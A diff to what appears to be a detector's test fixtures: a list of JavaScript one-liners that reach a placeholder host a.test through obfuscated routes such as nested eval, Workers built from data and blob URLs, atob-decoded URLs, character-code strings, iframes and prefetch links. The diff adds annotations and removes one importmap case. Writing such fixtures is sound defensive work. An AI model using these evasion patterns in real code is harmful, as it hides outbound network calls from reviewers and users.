@@ -122,7 +122,7 @@ setInterval("new Image().src='https://a.test/p'", 1000)
 eval("eval(\"fetch('https://a.test/x')\")")
 new Worker(URL.createObjectURL(new Blob(["importScripts('https://a.test/w.js')"], {type: 'text/javascript'})))
 new Worker('data:text/javascript,' + "fetch('https://a.test/x')")
-new Worker('data:text/javascript;base64,ZmV0Y2goJ2h0dHBzOi8vYS50ZXN0L3gnKQ==')
+new Worker('data:text/javascript;base64,ZmV0Y2goJ2h0dHBzOi8vYS50ZXN0L3gnKQ==') ## a.test
 import('data:text/javascript,import "https://a.test/m.js"')
 var f = document.createElement('iframe'); f.src = 'data:text/html,<img src="https://a.test/p">'; document.body.append(f)
 var f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src="https://a.test/p">'], {type: 'text/html'})); document.body.append(f)
@@ -188,7 +188,6 @@ var l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//a.te
 var l = document.createElement('link'); l.setAttribute('rel', 'prefetch'); l.setAttribute('href', 'https://a.test/x'); document.head.append(l)
 document.head.append(Object.assign(document.createElement('link'), {rel: 'preload', as: 'font', href: 'https://a.test/f.woff2'}))
 var s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{urls: ['https://a.test/x']}]}); document.head.append(s)
-var s = document.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({imports: {k: 'https://a.test/k.js'}}); document.head.append(s)
 """
 VALUES = r"""
 fetch('https://' + 'a.test' + '/x')
@@ -223,7 +222,7 @@ fetch('https#//a.test/x'.replaceAll('#', ':'))
 fetch(atob('aHR0cHM6Ly9hLnRlc3QveA=='))
 fetch(window.atob('aHR0cHM6Ly9hLnRlc3QveA=='))
 fetch(atob('aHR0cHM6Ly9h' + 'LnRlc3QveA=='))
-fetch(decodeURIComponent('https%3A%2F%2Fa.test%2Fx'))
+fetch(decodeURIComponent('https%3A%2F%2Fa.test%2Fx')) ## a.test
 fetch(unescape('%68%74%74%70%73%3A//a.test/x'))
 fetch(decodeURI('%68ttps://a.test/x'))
 fetch(String.fromCharCode(104,116,116,112,115,58,47,47,97,46,116,101,115,116,47,120)) ## a.test
